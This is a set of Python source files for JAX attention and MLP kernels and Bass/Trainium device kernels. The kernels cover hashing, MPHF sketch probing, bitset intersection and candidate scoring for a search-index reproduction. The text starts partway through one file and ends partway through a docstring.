    charges only this region's HBM inputs/outputs (see hlo_analysis.py).
    """
    with jax.named_scope("fused_attn"):
        b, sq, h, d = q.shape
        kh = k.shape[2]
        k = _repeat_kv(k, h // kh)
        v = _repeat_kv(v, h // kh)
        scale = 1.0 / math.sqrt(d)
        scores = jnp.einsum("bqhd,bkhd->bhqk", q, k).astype(jnp.float32) * scale
        scores = softcap(scores, attn_softcap)
        q_pos = jnp.arange(sq) + q_offset
        k_pos = jnp.arange(k.shape[1])
        mask = causal_window_mask(q_pos, k_pos, window)
        scores = jnp.where(mask[None, None], scores, NEG_INF)
        probs = jax.nn.softmax(scores, axis=-1).astype(q.dtype)
        return jnp.einsum("bhqk,bkhd->bqhd", probs, v)


def blockwise_attention(
    q, k, v, *, block_kv: int = 1024, window=None, attn_softcap=None, q_offset=0
):
    """Flash-style online-softmax attention, scanning KV blocks.

    Peak memory is O(Sq * block_kv) instead of O(Sq * Sk).  The scan carry is
    the classic (acc, running_max, running_sum) triple.
    """
    b, sq, h, d = q.shape
    sk = k.shape[1]
    kh = k.shape[2]
    n_rep = h // kh
    if sk % block_kv != 0:
        block_kv = math.gcd(sk, block_kv) or sk
    n_blocks = sk // block_kv
    scale = 1.0 / math.sqrt(d)

    kb = k.reshape(b, n_blocks, block_kv, kh, d).transpose(1, 0, 2, 3, 4)
    vb = v.reshape(b, n_blocks, block_kv, kh, d).transpose(1, 0, 2, 3, 4)
    q_pos = jnp.arange(sq) + q_offset
    qf = q.astype(jnp.float32)

    def body(carry, inp):
        # fused_attn: scores/probs live in SBUF/PSUM on Trainium; only the
        # q/k/v block loads and the (acc, m, s) carry are HBM traffic.
        with jax.named_scope("fused_attn"):
            acc, m_run, s_run = carry
            kblk, vblk, blk_idx = inp
            kblk = _repeat_kv(kblk, n_rep)
            vblk = _repeat_kv(vblk, n_rep)
            scores = jnp.einsum("bqhd,bkhd->bhqk", qf, kblk.astype(jnp.float32)) * scale
            scores = softcap(scores, attn_softcap)
            k_pos = blk_idx * block_kv + jnp.arange(block_kv)
            mask = causal_window_mask(q_pos, k_pos, window)
            scores = jnp.where(mask[None, None], scores, NEG_INF)
            m_new = jnp.maximum(m_run, scores.max(axis=-1))
            alpha = jnp.exp(m_run - m_new)
            p = jnp.exp(scores - m_new[..., None])
            s_new = s_run * alpha + p.sum(axis=-1)
            pv = jnp.einsum("bhqk,bkhd->bhqd", p, vblk.astype(jnp.float32))
            acc_new = acc * alpha[..., None] + pv
            return (acc_new, m_new, s_new), None

    acc0 = jnp.zeros((b, h, sq, d), jnp.float32)
    m0 = jnp.full((b, h, sq), NEG_INF, jnp.float32)
    s0 = jnp.zeros((b, h, sq), jnp.float32)
    # checkpoint the KV-block body: backward recomputes block scores/probs
    # instead of saving a [n_blocks, B, H, Sq, block] residual stack — this IS
    # flash-attention-backward's strategy, and keeps probs SBUF-resident.
    (acc, _m, s), _ = jax.lax.scan(
        jax.checkpoint(body), (acc0, m0, s0), (kb, vb, jnp.arange(n_blocks))
    )
    out = acc / jnp.maximum(s[..., None], 1e-30)
    return out.transpose(0, 2, 1, 3).astype(q.dtype)


def decode_attention(q, k_cache, v_cache, cache_len, *, window=None, attn_softcap=None):
    """One-step decode: q [B, 1, H, D] against cache [B, S, KH, D].

    ``cache_len`` is the number of valid cache positions (scalar or [B]).
    Written as a plain softmax over the full (sharded) S axis — under a
    sequence-sharded cache GSPMD lowers the max/sum to cross-shard
    all-reduces, i.e. flash-decoding's split-KV + global combine.
    """
    with jax.named_scope("fused_attn"):
        b, _one, h, d = q.shape
        s = k_cache.shape[1]
        kh = k_cache.shape[2]
        n_rep = h // kh
        scale = 1.0 / math.sqrt(d)
        # GQA without materializing repeated KV: fold rep into head groups.
        # bf16 inputs + f32 accumulation (preferred_element_type) — casting
        # the cache itself to f32 makes XLA hoist a FULL f32 copy of the
        # stacked cache into the decode loop carry (2× cache memory + 2×
        # read traffic, measured); the PE array natively takes bf16.
        qg = q[:, 0].astype(k_cache.dtype).reshape(b, kh, n_rep, d)
        scores = jnp.einsum(
            "bgrd,bsgd->bgrs", qg, k_cache, preferred_element_type=jnp.float32
        ) * scale  # [B, KH, R, S]
        scores = softcap(scores, attn_softcap)
        k_pos = jnp.arange(s)
        q_pos = jnp.asarray(cache_len) - 1  # query sits at the last valid slot
        valid = k_pos[None, :] <= jnp.reshape(q_pos, (-1, 1))
        if window is not None:
            valid &= k_pos[None, :] > (jnp.reshape(q_pos, (-1, 1)) - window)
        scores = jnp.where(valid[:, None, None, :], scores, NEG_INF)
        probs = jax.nn.softmax(scores, axis=-1)
        out = jnp.einsum(
            "bgrs,bsgd->bgrd",
            probs.astype(v_cache.dtype),
            v_cache,
            preferred_element_type=jnp.float32,
        )
        return out.reshape(b, 1, h, d).astype(q.dtype)


# --- MLPs -----------------------------------------------------------------------


def gated_mlp(x, w_gate, w_up, w_down, act: str = "silu"):
    """SwiGLU/GeGLU feed-forward: down( act(x·gate) ⊙ (x·up) )."""
    g = jnp.einsum("...d,df->...f", x, w_gate)
    u = jnp.einsum("...d,df->...f", x, w_up)
    a = jax.nn.gelu(g, approximate=True) if act == "gelu" else jax.nn.silu(g)
    return jnp.einsum("...f,fd->...d", a * u, w_down)


def mlp(x, weights, biases=None, act: str = "relu", final_act: bool = False):
    """Plain MLP over a list of weight matrices (+ optional biases)."""
    n = len(weights)
    for i, w in enumerate(weights):
        x = jnp.einsum("...d,df->...f", x, w)
        if biases is not None and biases[i] is not None:
            x = x + biases[i]
        if i < n - 1 or final_act:
            x = jax.nn.relu(x) if act == "relu" else jax.nn.silu(x)
    return x
