"""Bass kernel: batched commutative postings-hash update (paper Def. 3.1).

``out[i] = h[i] XOR mix(p[i])`` — the ingest hot path folds each new posting
into its token's running postings hash.  The device variant uses the 32-bit
xorshift mixer (the Trainium vector ALU has no exact 64-bit or even 32-bit
integer multiply — DESIGN.md §Hardware-adaptation); the host mutable sketch
keeps the paper's 64-bit LCG.

Layout: [N] u32 streams tiled to [128, F]; one elementwise pass, fully
DMA/compute overlapped via the tile pool.
"""

from __future__ import annotations

from contextlib import ExitStack

import concourse.bass as bass
import concourse.tile as tile
from concourse._compat import with_exitstack

from ._device_ops import U32, XOR, emit_xorshift32
from ..core.hashing import POSTING_SEED

P = 128


@with_exitstack
def posting_hash_kernel(
    ctx: ExitStack,
    tc: tile.TileContext,
    out: bass.AP,  # [N] u32
    h: bass.AP,  # [N] u32 current hashes
    p: bass.AP,  # [N] u32 postings
) -> None:
    nc = tc.nc
    n = h.shape[0]
    assert n % P == 0, "pad N to a multiple of 128"
    f = n // P
    h2 = h.rearrange("(p f) -> p f", p=P)
    p2 = p.rearrange("(p f) -> p f", p=P)
    o2 = out.rearrange("(p f) -> p f", p=P)
    # chunk the free dim so DMA and compute overlap
    chunk = min(f, 2048)
    pool = ctx.enter_context(tc.tile_pool(name="sbuf", bufs=3))
    for c0 in range(0, f, chunk):
        c1 = min(f, c0 + chunk)
        w = c1 - c0
        th = pool.tile([P, w], U32, tag="h")
        tp = pool.tile([P, w], U32, tag="p")
        ts = pool.tile([P, w], U32, tag="s")
        nc.sync.dma_start(th[:], h2[:, c0:c1])
        nc.sync.dma_start(tp[:], p2[:, c0:c1])
        emit_xorshift32(nc, tp[:], ts[:], POSTING_SEED, 0)
        nc.vector.tensor_tensor(th[:], th[:], tp[:], XOR)
        nc.sync.dma_start(o2[:, c0:c1], th[:])
