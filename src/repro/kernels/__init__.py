"""Bass/Trainium kernels for the COPR hot paths.

* ``sketch_probe``      — batched MPHF probe + signature check (§4.4)
* ``bitset_intersect``  — posting-bitset AND + popcount (boolean queries)
* ``posting_hash``      — ingest-side commutative hash fold (Def. 3.1)
* ``candidate_score``   — retrieval scoring matmul (recsys retrieval_cand)

``ops`` holds the bass_jit wrappers; ``ref`` the pure-jnp/numpy oracles.
Import lazily — concourse pulls in the full Bass stack.
"""

__all__ = ["ops", "ref"]
