"""Shared Bass emit-helpers for the COPR kernels.

Everything here respects the Trainium vector-ALU contract established
empirically (see DESIGN.md §Hardware-adaptation):

* bitwise xor/and/or and logical shifts are EXACT on uint32;
* add/subtract are exact only below 2^24 (fp32 mantissa);
* mult/mod are NOT integer-exact — never emitted.

The xorshift mixer must match ``repro.core.hashing.xorshift32`` bit-for-bit.
"""

from __future__ import annotations

import concourse.mybir as mybir
from concourse.alu_op_type import AluOpType
from typing import Any

from ..core.hashing import XS_TRIPLES

U32 = mybir.dt.uint32
XOR = AluOpType.bitwise_xor
AND = AluOpType.bitwise_and
OR = AluOpType.bitwise_or
SHL = AluOpType.logical_shift_left
SHR = AluOpType.logical_shift_right
ADD = AluOpType.add  # exact below 2^24 ONLY
SUB = AluOpType.subtract  # exact below 2^24 ONLY
EQ = AluOpType.is_equal
LT = AluOpType.is_lt

MASK32 = 0xFFFFFFFF


def emit_xorshift32(nc: Any, t: Any, scratch: Any, seed: int, variant: int) -> None:
    """In-place t = xorshift32(t, seed, variant); scratch same shape."""
    v = nc.vector
    if seed:
        v.tensor_scalar(t, t, int(seed) & MASK32, None, XOR)
    a1, b1, c1 = XS_TRIPLES[(2 * variant) % len(XS_TRIPLES)]
    a2, b2, c2 = XS_TRIPLES[(2 * variant + 1) % len(XS_TRIPLES)]
    for op, amt in ((SHL, a1), (SHR, b1), (SHL, c1), (SHR, a2), (SHL, b2), (SHR, c2)):
        v.tensor_scalar(scratch, t, amt, None, op)
        v.tensor_tensor(t, t, scratch, XOR)


def emit_popcount16_swar(nc: Any, v_t: Any, s1: Any) -> None:
    """In-place popcount of uint32 values < 2^16 (SWAR; all adds < 2^24)."""
    v = nc.vector
    # v -= (v >> 1) & 0x5555
    v.tensor_scalar(s1, v_t, 1, None, SHR)
    v.tensor_scalar(s1, s1, 0x5555, None, AND)
    v.tensor_tensor(v_t, v_t, s1, SUB)
    # v = (v & 0x3333) + ((v >> 2) & 0x3333)
    v.tensor_scalar(s1, v_t, 2, None, SHR)
    v.tensor_scalar(s1, s1, 0x3333, None, AND)
    v.tensor_scalar(v_t, v_t, 0x3333, None, AND)
    v.tensor_tensor(v_t, v_t, s1, ADD)
    # v = (v + (v >> 4)) & 0x0F0F
    v.tensor_scalar(s1, v_t, 4, None, SHR)
    v.tensor_tensor(v_t, v_t, s1, ADD)
    v.tensor_scalar(v_t, v_t, 0x0F0F, None, AND)
    # v = (v + (v >> 8)) & 0x1F
    v.tensor_scalar(s1, v_t, 8, None, SHR)
    v.tensor_tensor(v_t, v_t, s1, ADD)
    v.tensor_scalar(v_t, v_t, 0x1F, None, AND)


def emit_popcount32(nc: Any, out: Any, w: Any, s1: Any, s2: Any) -> None:
    """out = popcount(w) for full uint32 words (split into 16-bit limbs)."""
    v = nc.vector
    v.tensor_scalar(out, w, 0xFFFF, None, AND)  # lo limb
    emit_popcount16_swar(nc, out, s1)
    v.tensor_scalar(s2, w, 16, None, SHR)  # hi limb
    emit_popcount16_swar(nc, s2, s1)
    v.tensor_tensor(out, out, s2, ADD)


def emit_expand_mask2(nc: Any, full: Any, mask01: Any, s1: Any) -> None:
    """full = 0xFFFFFFFF if mask01 else 0 — pure shift/or bit-smearing.

    (0 - mask01 would be exact arithmetically but the fp32 ALU path saturates
    the -1.0 → uint32 cast to 0, so arithmetic negation is unusable.)
    """
    v = nc.vector
    v.tensor_copy(full, mask01)
    for sh in (1, 2, 4, 8, 16):
        v.tensor_scalar(s1, full, sh, None, SHL)
        v.tensor_tensor(full, full, s1, OR)


def emit_select(nc: Any, out: Any, mask01: Any, a: Any, b: Any, s1: Any, s2: Any) -> None:
    """out = mask01 ? a : b  (mask01 ∈ {0,1}; pure bitwise select).

    Alias-safe: ``out`` may alias ``a`` or ``b`` (both sides are computed
    into scratch before ``out`` is written).  ``s1``/``s2`` must be distinct
    from every other operand.
    """
    v = nc.vector
    emit_expand_mask2(nc, s2, mask01, s1)
    v.tensor_tensor(s1, a, s2, AND)  # a-side
    v.tensor_scalar(s2, s2, MASK32, None, XOR)
    v.tensor_tensor(s2, b, s2, AND)  # b-side
    v.tensor_tensor(out, s1, s2, OR)
