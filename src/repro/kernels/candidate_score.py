"""Bass kernel: retrieval candidate scoring — [C, D] · [D, Q] on the tensor
engine (the recsys ``retrieval_cand`` hot loop).

Tiling: candidates stream over 128-row tiles (PSUM partition dim), the
embedding dim contracts in 128-chunks with PSUM accumulation, queries sit in
the free dim (Q ≤ 512).  lhsT convention: ``matmul(out, lhsT, rhs)`` computes
``lhsT.T @ rhs`` with lhsT = [K, M] — candidate tiles load transposed
([D_chunk, C_tile]) via DMA transpose, which requires 16-bit data: vectors
are bf16 (the production storage dtype) with fp32 PSUM accumulation.

Top-k over the scores stays outside the kernel (jnp.lax.top_k over the
[Q, C] result) — selection is bandwidth-trivial next to the O(C·D) scoring.
"""

from __future__ import annotations

from contextlib import ExitStack

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse._compat import with_exitstack

P = 128
F32 = mybir.dt.float32


@with_exitstack
def candidate_score_kernel(
    ctx: ExitStack,
    tc: tile.TileContext,
    out: bass.AP,  # [C, Q] f32 scores
    cands: bass.AP,  # [C, D] f32/bf16 candidate vectors
    queries: bass.AP,  # [D, Q] f32/bf16 query vectors (pre-transposed)
) -> None:
    nc = tc.nc
    c, d = cands.shape
    d2, q = queries.shape
    assert d == d2 and c % P == 0 and d % P == 0 and q <= 512
    assert cands.dtype == mybir.dt.bfloat16, "DMA transpose needs 16-bit dtypes"

    sbuf = ctx.enter_context(tc.tile_pool(name="sbuf", bufs=3))
    psum = ctx.enter_context(tc.tile_pool(name="psum", bufs=2, space="PSUM"))

    # queries resident in SBUF for the whole kernel: [D, Q] as D/P tiles
    q_tiles = []
    for kc in range(d // P):
        qt = sbuf.tile([P, q], queries.dtype, tag=f"q{kc}")
        nc.sync.dma_start(qt[:], queries[kc * P : (kc + 1) * P, :])
        q_tiles.append(qt)

    for ci in range(c // P):
        acc = psum.tile([P, q], F32, tag="acc")
        for kc in range(d // P):
            # lhsT = cands[c_tile, d_chunk]^T = [D_chunk(128), C_tile(128)]
            lhsT = sbuf.tile([P, P], cands.dtype, tag="lhsT")
            nc.sync.dma_start(
                lhsT[:],
                cands[ci * P : (ci + 1) * P, kc * P : (kc + 1) * P],
                transpose=True,
            )
            nc.tensor.matmul(
                acc[:],
                lhsT=lhsT[:],
                rhs=q_tiles[kc][:],
                start=(kc == 0),
                stop=(kc == d // P - 1),
            )
        res = sbuf.tile([P, q], F32, tag="res")
        nc.vector.tensor_copy(res[:], acc[:])
        nc.sync.dma_start(out[ci * P : (ci + 1) * P, :], res[:])
