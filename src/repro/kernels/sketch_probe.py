"""Bass kernel: batched COPR/DynaWarp immutable-sketch probe (paper §4.4).

For each of N token fingerprints, evaluates the BBHash MPHF (per-level
hash → bit test → in-level rank) and the signature compare — i.e.
Algorithm 3's ``isPresent`` + minimal-index acquisition, the per-token cost
that dominates needle-in-the-haystack queries.  Output: the token's minimal
hash index, or 0xFFFFFFFF when absent.

Trainium-native layout (HBM → SBUF):

* the MPHF level bitvectors live in HBM as PACKED BLOCKS of
  ``[n_blocks, 17]`` u32: 16 bitvector words (512 bits) + that block's
  cumulative-popcount rank sample.  One indirect-DMA row gather fetches
  everything rank needs — bit word, block neighbourhood, and sample — in a
  single descriptor per lane.
* 128 fingerprints probe per tile (one per partition); per level:
  xorshift hash (shift/xor ALU) → block gather → word select (16-way
  compare-mask tree) → bit test → SWAR popcount rank (16-bit limbs keep
  every add below the fp32-exactness bound).
* signatures are a u32 array indexed by minimal hash; one final gather +
  xor-compare yields presence.

All arithmetic uses only the device-exact op set (see _device_ops.py).
Constraints asserted by pack_probe_tables: n_keys < 2^24, power-of-two level
sizes, no fallback keys (gamma=2 construction keeps fallback empty).
"""

from __future__ import annotations

from contextlib import ExitStack
from dataclasses import dataclass

import numpy as np

import concourse.bass as bass
import concourse.tile as tile
from concourse._compat import with_exitstack
from concourse.alu_op_type import AluOpType

from ..core.hashing import LEVEL_SEED, splitmix64
from ..core.mphf import Mphf, RANK_BLOCK_WORDS
from ._device_ops import (
    ADD,
    AND,
    EQ,
    MASK32,
    OR,
    SHR,
    U32,
    XOR,
    emit_expand_mask2,
    emit_popcount32,
    emit_select,
    emit_xorshift32,
)

P = 128
WPB = 16  # u32 words per 512-bit rank block
ABSENT = MASK32
GT = AluOpType.is_gt


@dataclass(frozen=True)
class LevelMeta:
    seed: int  # level hash seed
    variant: int  # xorshift triple variant (= level index)
    size_mask: int  # size-1 (power-of-two level size in bits)
    block_offset: int  # first packed-block row of this level
    rank_offset: int  # keys placed before this level


def pack_probe_tables(
    mphf: Mphf, sigs32: np.ndarray
) -> "tuple[np.ndarray, list[LevelMeta], np.ndarray]":
    """Host-side: build the packed [n_blocks, 17] u32 table + level metas."""
    assert mphf.fallback_keys.size == 0, "device probe requires no fallback keys"
    assert mphf.n_keys < (1 << 24), "rank adds must stay fp32-exact"
    words32 = mphf.words.view(np.uint32)  # 2 u32 per u64, little-endian
    n_blocks = words32.size // WPB
    packed = np.zeros((n_blocks, WPB + 1), dtype=np.uint32)
    packed[:, :WPB] = words32.reshape(n_blocks, WPB)
    packed[:, WPB] = mphf.rank_samples[:n_blocks]
    metas = []
    for lvl in range(mphf.n_levels):
        size = int(mphf.level_sizes[lvl])
        assert size & (size - 1) == 0, "level sizes must be powers of two"
        seed = int(splitmix64(LEVEL_SEED + np.uint64(lvl))) & MASK32
        metas.append(
            LevelMeta(
                seed=seed,
                variant=lvl,
                size_mask=size - 1,
                block_offset=int(mphf.level_word_offsets[lvl]) // RANK_BLOCK_WORDS,
                rank_offset=int(mphf.level_rank_offsets[lvl]),
            )
        )
    sigs = np.ascontiguousarray(sigs32, dtype=np.uint32).reshape(-1, 1)
    return packed, metas, sigs


@with_exitstack
def sketch_probe_kernel(
    ctx: ExitStack,
    tc: tile.TileContext,
    out: bass.AP,  # [N] u32 minimal index or ABSENT
    fps: bass.AP,  # [N] u32 fingerprints
    packed: bass.AP,  # [n_blocks, 17] u32
    sigs: bass.AP,  # [n_keys, 1] u32 (full fingerprints as signatures)
    metas: list[LevelMeta],
) -> None:
    nc = tc.nc
    v = nc.vector
    n = fps.shape[0]
    assert n % P == 0, "pad N to a multiple of 128"
    n_tiles = n // P
    n_keys = sigs.shape[0]
    fps2 = fps.rearrange("(t p) -> t p", p=P)
    out2 = out.rearrange("(t p) -> t p", p=P)

    pool = ctx.enter_context(tc.tile_pool(name="sbuf", bufs=2))

    for ti in range(n_tiles):
        fp = pool.tile([P, 1], U32, tag="fp")
        idx = pool.tile([P, 1], U32, tag="idx")  # result minimal index
        pend = pool.tile([P, 1], U32, tag="pend")  # 1 while unplaced
        h = pool.tile([P, 1], U32, tag="h")
        a = pool.tile([P, 1], U32, tag="a")  # scratch
        b = pool.tile([P, 1], U32, tag="b")  # scratch
        c_ = pool.tile([P, 1], U32, tag="c")  # scratch
        d = pool.tile([P, 1], U32, tag="d")  # scratch
        wib = pool.tile([P, 1], U32, tag="wib")  # word-in-block
        pmask = pool.tile([P, 1], U32, tag="pmask")  # partial-word mask
        word = pool.tile([P, 1], U32, tag="word")
        rank = pool.tile([P, 1], U32, tag="rank")
        gidx = pool.tile([P, 1], U32, tag="gidx")
        blk = pool.tile([P, WPB + 1], U32, tag="blk")
        sig = pool.tile([P, 1], U32, tag="sig")

        nc.sync.dma_start(fp[:], fps2[ti, :, None])
        v.memset(idx[:], ABSENT)
        v.memset(pend[:], 1)

        for meta in metas:
            # ---- h = xorshift32(fp ^ seed, variant) & size_mask ----
            v.tensor_copy(h[:], fp[:])
            emit_xorshift32(nc, h[:], a[:], meta.seed, meta.variant)
            v.tensor_scalar(h[:], h[:], meta.size_mask, None, AND)

            # ---- gather the 17-word packed block ----
            v.tensor_scalar(gidx[:], h[:], 9, None, SHR)  # block within level
            if meta.block_offset:
                v.tensor_scalar(gidx[:], gidx[:], meta.block_offset, None, ADD)
            nc.gpsimd.indirect_dma_start(
                out=blk[:],
                out_offset=None,
                in_=packed[:],
                in_offset=bass.IndirectOffsetOnAxis(ap=gidx[:, :1], axis=0),
            )

            # ---- word/bit coordinates ----
            v.tensor_scalar(wib[:], h[:], 5, None, SHR)
            v.tensor_scalar(wib[:], wib[:], 0xF, None, AND)  # word in block
            v.tensor_scalar(b[:], h[:], 0x1F, None, AND)  # bit in word
            # partial mask (1<<bit)-1 == (0x7FFFFFFF >> (31-bit)); 31-bit == bit^31
            v.tensor_scalar(a[:], b[:], 0x1F, None, XOR)
            v.memset(pmask[:], 0x7FFFFFFF)
            v.tensor_tensor(pmask[:], pmask[:], a[:], SHR)

            # ---- 16-way word select + in-block prefix popcount ----
            v.memset(word[:], 0)
            v.memset(rank[:], meta.rank_offset)
            v.tensor_tensor(rank[:], rank[:], blk[:, WPB : WPB + 1], ADD)  # + sample
            for col in range(WPB):
                wcol = blk[:, col : col + 1]
                # m_eq = full(word_in_block == col)
                v.tensor_scalar(a[:], wib[:], col, None, EQ)
                emit_expand_mask2(nc, c_[:], a[:], d[:])
                v.tensor_tensor(a[:], wcol, c_[:], AND)
                v.tensor_tensor(word[:], word[:], a[:], OR)  # selected word
                # prefix contribution: (wcol & m_lt) | (wcol & m_eq & pmask)
                v.tensor_tensor(a[:], a[:], pmask[:], AND)  # eq-part already masked
                v.tensor_scalar(b[:], wib[:], col, None, GT)  # wib > col → lt-mask
                emit_expand_mask2(nc, c_[:], b[:], d[:])
                v.tensor_tensor(c_[:], wcol, c_[:], AND)
                v.tensor_tensor(a[:], a[:], c_[:], OR)
                # rank += popcount(a)
                emit_popcount32(nc, b[:], a[:], c_[:], d[:])
                v.tensor_tensor(rank[:], rank[:], b[:], ADD)

            # ---- bit test: hit = pend & ((word >> bit) & 1) ----
            v.tensor_scalar(a[:], h[:], 0x1F, None, AND)
            v.tensor_tensor(b[:], word[:], a[:], SHR)
            v.tensor_scalar(b[:], b[:], 1, None, AND)
            v.tensor_tensor(b[:], b[:], pend[:], AND)  # hit ∈ {0,1}
            # idx = hit ? rank : idx ; pend &= ~hit
            emit_select(nc, idx[:], b[:], rank[:], idx[:], a[:], c_[:])
            v.tensor_scalar(a[:], b[:], 1, None, XOR)  # ~hit in {0,1}
            v.tensor_tensor(pend[:], pend[:], a[:], AND)

        # ---- signature compare: present iff sigs[idx] == fp ----
        # clamp gather index for absent lanes (bounds-checked skip keeps the
        # memset sentinel, which then fails the compare)
        v.memset(sig[:], 0)
        nc.gpsimd.indirect_dma_start(
            out=sig[:],
            out_offset=None,
            in_=sigs[:],
            in_offset=bass.IndirectOffsetOnAxis(ap=idx[:, :1], axis=0),
            bounds_check=n_keys - 1,
            oob_is_err=False,
        )
        v.tensor_tensor(a[:], sig[:], fp[:], XOR)
        v.tensor_scalar(a[:], a[:], 0, None, EQ)  # 1 iff signature matches
        v.memset(b[:], ABSENT)
        emit_select(nc, idx[:], a[:], idx[:], b[:], c_[:], d[:])
        nc.sync.dma_start(out2[ti, :, None], idx[:])
