"""Bass kernel: posting-bitset AND-reduce + popcount (boolean AND queries).

Inputs: T posting bitsets of W u32 words (T = query tokens, W = postings/32).
Output: the intersection bitset [W] and the total surviving-posting count.

Layout: W words spread over 128 partitions × W/128 free dim; the T-way AND
is a sequential fold on the vector engine (T is small — the paper's AND
queries intersect a handful of token lists); popcount is the SWAR ladder;
the final cross-partition total uses a gpsimd partition reduce.
"""

from __future__ import annotations

from contextlib import ExitStack

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse._compat import with_exitstack

from ._device_ops import ADD, AND, U32, emit_popcount32

P = 128


@with_exitstack
def bitset_intersect_kernel(
    ctx: ExitStack,
    tc: tile.TileContext,
    out_bits: bass.AP,  # [W] u32 intersection
    out_count: bass.AP,  # [1] u32 total popcount
    bitsets: bass.AP,  # [T, W] u32
) -> None:
    nc = tc.nc
    v = nc.vector
    t_cnt, w = bitsets.shape
    assert w % P == 0, "pad W to a multiple of 128 words"
    f = w // P

    pool = ctx.enter_context(tc.tile_pool(name="sbuf", bufs=2))
    acc = pool.tile([P, f], U32, tag="acc")
    row = pool.tile([P, f], U32, tag="row")
    rows2 = bitsets.rearrange("t (p f) -> t p f", p=P)
    nc.sync.dma_start(acc[:], rows2[0])
    for ti in range(1, t_cnt):
        nc.sync.dma_start(row[:], rows2[ti])
        v.tensor_tensor(acc[:], acc[:], row[:], AND)
    nc.sync.dma_start(out_bits.rearrange("(p f) -> p f", p=P), acc[:])

    # popcount each word, then reduce free dim and partitions
    pc = pool.tile([P, f], U32, tag="pc")
    s1 = pool.tile([P, f], U32, tag="s1")
    s2 = pool.tile([P, f], U32, tag="s2")
    emit_popcount32(nc, pc[:], acc[:], s1[:], s2[:])
    persum = pool.tile([P, 1], U32, tag="persum")
    total = pool.tile([1, 1], U32, tag="total")
    with nc.allow_low_precision(reason="u32 popcount sums stay < 2^24 (fp32-exact)"):
        v.tensor_reduce(persum[:], pc[:], mybir.AxisListType.X, ADD)
        nc.gpsimd.tensor_reduce(total[:], persum[:], mybir.AxisListType.C, ADD)
    nc.sync.dma_start(out_count[:, None], total[:])
