"""bass_jit wrappers: the JAX-callable entry points for the COPR kernels.

Under CoreSim (this container) these run on CPU through the Bass
interpreter; on real trn hardware the same code lowers to NEFF.  Shapes pad
to the 128-partition grain internally; callers see the unpadded view.
"""

from __future__ import annotations

from functools import lru_cache

import jax.numpy as jnp
import numpy as np

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse.bass2jax import bass_jit

from ..core.mphf import Mphf
from .bitset_intersect import bitset_intersect_kernel
from .candidate_score import candidate_score_kernel
from .posting_hash import posting_hash_kernel
from .sketch_probe import pack_probe_tables, sketch_probe_kernel

P = 128


def _pad_to(x: np.ndarray, mult: int, axis: int = 0, fill=0):
    n = x.shape[axis]
    pad = (-n) % mult
    if pad == 0:
        return x, n
    widths = [(0, 0)] * x.ndim
    widths[axis] = (0, pad)
    return np.pad(x, widths, constant_values=fill), n


# --- posting_hash ----------------------------------------------------------------


@bass_jit
def _posting_hash_jit(nc, h, p):
    out = nc.dram_tensor(list(h.shape), mybir.dt.uint32, kind="ExternalOutput")
    with tile.TileContext(nc) as tc:
        posting_hash_kernel(tc, out[:], h[:], p[:])
    return out


def posting_hash(h, p):
    """Batched postings-hash fold: out = h ^ mix32(p)."""
    h = np.asarray(h, np.uint32)
    p = np.asarray(p, np.uint32)
    hp, n = _pad_to(h.ravel(), P)
    pp, _ = _pad_to(p.ravel(), P)
    out = _posting_hash_jit(hp, pp)
    return jnp.asarray(out)[:n].reshape(h.shape)


# --- sketch_probe ----------------------------------------------------------------


def make_sketch_probe(mphf: Mphf, sigs32: np.ndarray):
    """Build a probe fn bound to one sealed sketch's tables."""
    packed, metas, sigs = pack_probe_tables(mphf, sigs32)

    @bass_jit
    def _probe(nc, fps, packed_t, sigs_t):
        out = nc.dram_tensor(list(fps.shape), mybir.dt.uint32, kind="ExternalOutput")
        with tile.TileContext(nc) as tc:
            sketch_probe_kernel(tc, out[:], fps[:], packed_t[:], sigs_t[:], metas)
        return out

    def probe(fps):
        fps = np.asarray(fps, np.uint32).ravel()
        fpad, n = _pad_to(fps, P)
        out = _probe(fpad, packed, sigs)
        return jnp.asarray(out)[:n]

    return probe


# --- bitset_intersect -------------------------------------------------------------


@bass_jit
def _bitset_jit(nc, bitsets):
    w = bitsets.shape[1]
    out_bits = nc.dram_tensor([w], mybir.dt.uint32, kind="ExternalOutput")
    out_count = nc.dram_tensor([1], mybir.dt.uint32, kind="ExternalOutput")
    with tile.TileContext(nc) as tc:
        bitset_intersect_kernel(tc, out_bits[:], out_count[:], bitsets[:])
    return out_bits, out_count


def bitset_intersect(bitsets):
    """AND-reduce [T, W u32] posting bitsets; returns (bits, count)."""
    bs = np.asarray(bitsets, np.uint32)
    bs, w = _pad_to(bs, P, axis=1, fill=0xFFFFFFFF if False else 0)
    # pad words with zeros: zero words stay zero through AND ✓
    bits, count = _bitset_jit(bs)
    return jnp.asarray(bits)[:w], int(jnp.asarray(count)[0])


# --- candidate_score ---------------------------------------------------------------


@bass_jit
def _score_jit(nc, cands, queries):
    c = cands.shape[0]
    q = queries.shape[1]
    out = nc.dram_tensor([c, q], mybir.dt.float32, kind="ExternalOutput")
    with tile.TileContext(nc) as tc:
        candidate_score_kernel(tc, out[:], cands[:], queries[:])
    return out


def candidate_score(cands, queries):
    """[C, D] candidates · [Q, D] queries → [Q, C] scores (+host top-k).

    Vectors go to the device as bf16 (storage dtype; DMA transpose requires
    16-bit data) and accumulate in fp32 PSUM.
    """
    import ml_dtypes

    cands = np.asarray(cands).astype(ml_dtypes.bfloat16)
    queries = np.asarray(queries).astype(ml_dtypes.bfloat16)
    cp, c = _pad_to(cands, P, axis=0)
    cp, _ = _pad_to(cp, P, axis=1)
    qt = np.ascontiguousarray(queries.T)  # [D, Q]
    qt, _ = _pad_to(qt, P, axis=0)
    out = _score_jit(cp, qt)
    return jnp.asarray(out)[:c].T  # [Q, C]
