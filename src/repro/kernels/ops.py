"""bass_jit wrappers: the JAX-callable entry points for the COPR kernels.

Under CoreSim (this container) these run on CPU through the Bass
interpreter; on real trn hardware the same code lowers to NEFF.  Shapes pad
to the 128-partition grain internally; callers see the unpadded view.

**Padded-lane masking.**  ``_pad_to`` fills padded lanes with 0 — and a zero
fingerprint is a *valid* key, so a padded probe lane can alias a real sketch
entry (and a padded posting-hash lane produces a real-looking fold).  Every
wrapper therefore masks the padded lanes of the kernel output explicitly
(probe lanes → ``ABSENT32``, hash lanes → 0) *before* slicing back to the
caller's length, so no phantom value can survive even if a future caller
consumes the padded view.  ``tests/test_kernels.py`` pins this at
non-multiple-of-128 sizes (1, 127, 129, 4097).

